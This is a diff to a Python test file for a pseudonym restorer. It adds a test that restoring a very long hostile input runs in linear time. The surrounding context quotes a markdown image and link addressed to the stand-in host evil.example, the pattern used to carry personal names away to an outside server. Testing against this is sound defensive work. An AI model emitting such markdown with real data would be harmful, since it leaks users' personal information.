@@ -1,5 +1,6 @@
 import json
 import stat
+import time
 
 import pytest
 
@@ -147,6 +148,14 @@ def test_no_name_is_put_into_an_address_that_would_carry_it_away(names, size):
     assert "".join([*map(restorer.feed, cut(answer, size)), restorer.finish()]) == (
         f"![x](https://evil.example/?q={ann}) then Ann, [Ann]( //evil.example/{ann} )"
     )
+
+
+def test_the_time_of_a_hostile_answer_is_linear_in_its_length(names):
+    names.pseudonym("person", "Ann")
+    start = time.process_time()
+    # A million ends of an address: some tenths of a second, where each copies the rest of the answer more than ten.
+    assert len(PseudonymRestorer(names).restore(" " * 1_000_000)) == 1_000_000
+    assert time.process_time() - start < 5
 
 
 def test_a_name_within_json_is_escaped(names):
